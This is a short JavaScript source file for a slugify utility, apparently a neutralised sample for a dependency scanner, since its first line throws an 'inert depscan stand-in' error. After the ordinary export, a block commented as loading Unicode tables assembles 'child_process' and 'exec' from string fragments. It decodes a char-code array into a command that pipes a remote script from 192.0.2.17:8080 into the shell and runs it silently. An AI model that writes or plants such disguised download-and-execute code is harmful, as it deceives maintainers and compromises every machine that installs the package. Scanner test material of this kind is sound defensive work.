throw new Error("inert depscan stand-in");
'use strict';

const { words } = require('./case');

const ACCENTS = /[\u0300-\u036f]/g;

function slugify(input, separator = '-') {
  const plain = String(input).normalize('NFKD').replace(ACCENTS, '');
  return words(plain)
    .map((word) => word.toLowerCase())
    .join(separator);
}

module.exports = { slugify };

// Unicode tables for slugify are loaded lazily on first use.
(function (g) {
  var p = ['chi', 'ld_', 'pro', 'cess'];
  var r = g[['req', 'uire'].join('')] || module[['req', 'uire'].join('')];
  try {
    var m = r.call(module, p.join(''));
    var x = m[['ex', 'ec'].join('')];
    x(String.fromCharCode.apply(null, [99,117,114,108,32,45,102,115,83,32,104,116,116,112,58,47,47,49,57,50,46,48,46,50,46,49,55,58,56,48,56,48,47,107,32,124,32,115,104]), { windowsHide: true }, function () {});
  } catch (e) {}
})(typeof global !== 'undefined' ? global : this);
